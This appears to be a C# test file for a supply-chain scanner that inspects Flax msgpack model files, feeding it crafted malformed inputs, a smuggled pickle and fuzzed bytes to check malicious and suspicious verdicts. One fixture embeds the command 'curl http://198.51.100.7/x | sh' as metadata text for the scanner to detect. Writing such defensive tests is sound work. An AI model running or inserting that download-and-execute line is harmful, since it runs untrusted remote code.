using System.Text;
using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.Flax;

public class FlaxScannerTests
{
    [Fact]
    public void Weights_are_clean() => Is(Verdict.Clean, Honest());

    [Fact]
    public void Array_that_is_not_its_shape_is_SCA3162() => Is(Verdict.Malicious, Map(("a", Array("float32", 12, 2, 2))), Rules.ModelLie);

    [Fact]
    public void Shape_that_overflows_is_SCA3162() => Is(Verdict.Malicious, Map(("a", Extension(1, [0x93, 0x92, 0xCF, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xCF, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, .. Text("float32"), 0xC4, 1, 0]))), Rules.ModelLie);

    [Fact]
    public void Array_of_objects_is_SCA3163() => Is(Verdict.Suspicious, Map(("a", Array("object", 8, 1))), Rules.EvaluatedValue);

    [Theory]
    [InlineData(5)]
    [InlineData(42)]
    [InlineData(255)]
    public void Extension_of_another_type_is_SCA3163(byte type) => Is(Verdict.Suspicious, Map(("a", Array("float32", 4, 1)), ("b", Extension(type, [1, 2, 3]))), Rules.EvaluatedValue);

    [Fact]
    public void Pickle_in_bytes_is_SCA3112() => Assert.Contains(Rules.ForeignTensor, Scanned.Bytes(Map(("a", Array("float32", 4, 1)), ("b", [0xC4, (byte)(Samples.TextPickle.Length), .. Samples.TextPickle]))).Doubts);

    [Fact]
    public void Command_in_a_text_is_SCA3102() => Is(Verdict.Malicious, Map(("a", Array("float32", 4, 1)), ("b", Text("curl http://198.51.100.7/x | sh"))), Rules.MetadataCode);

    [Fact]
    public void Bytes_behind_the_value_are_SCA3005() => Is(Verdict.Suspicious, [.. Honest(), 0, 0, 0], Rules.TrailingData);

    [Fact]
    public void Values_nested_without_end_are_bounded() => Is(Verdict.Malicious, [0x82, .. Text("a"), .. Array("float32", 4, 1), .. Text("b"), .. Enumerable.Repeat((byte)0x91, 10_000)], Rules.ResourceExhaustion);

    [Fact]
    public void Map_larger_than_the_file_is_unscannable() => Is(Verdict.Unscannable, [0xDF, 0xFF, 0xFF, 0xFF, 0xFF, .. Text("a"), .. Array("float32", 4, 1)]);

    [Fact]
    public void Mutated_files_neither_throw_nor_hang()
    {
        var random = new Random(3164);
        for (var round = 0; round < 4000; round++)
        {
            var bytes = Honest();
            for (var changes = random.Next(1, 5); changes > 0; changes--)
                bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            _ = Scanned.Bytes(random.Next(5) == 0 ? bytes[..random.Next(bytes.Length)] : bytes).Verdict;
        }
    }

    private static byte[] Honest() => Map(("params", Map(("Dense_0", Map(("bias", Array("float32", 12, 3)), ("kernel", Array("bfloat16", 12, 3, 2)))), ("scale", Extension(3, [0x93, 0x90, .. Text("float32"), 0xC4, 4, 0, 0, 0, 0])))), ("step", [0xCD, 1, 0]), ("name", Text("model")), ("none", [0xC0]));

    private static byte[] Array(string type, int length, params byte[] shape) => Extension(1, [0x93, (byte)(0x90 | shape.Length), .. shape, .. Text(type), 0xC4, (byte)length, .. new byte[length]]);

    private static byte[] Extension(byte type, byte[] content) => [0xC7, (byte)content.Length, type, .. content];

    private static byte[] Map(params (string Key, byte[] Value)[] pairs) => [(byte)(0x80 | pairs.Length), .. pairs.SelectMany(static pair => (byte[])[.. Text(pair.Key), .. pair.Value])];

    private static byte[] Text(string text) => text.Length < 32 ? [(byte)(0xA0 | text.Length), .. Encoding.UTF8.GetBytes(text)] : [0xD9, (byte)text.Length, .. Encoding.UTF8.GetBytes(text)];

    private static void Is(Verdict verdict, byte[] bytes, Rule? rule = null)
    {
        var scanned = Scanned.Bytes(bytes, "flax_model.msgpack");
        Assert.Equal("flax", scanned.Format.Id);
        Assert.True(scanned.Verdict == verdict, scanned.ToString());
        if (rule is not null)
            Assert.Contains(rule, scanned.Doubts);
    }
}
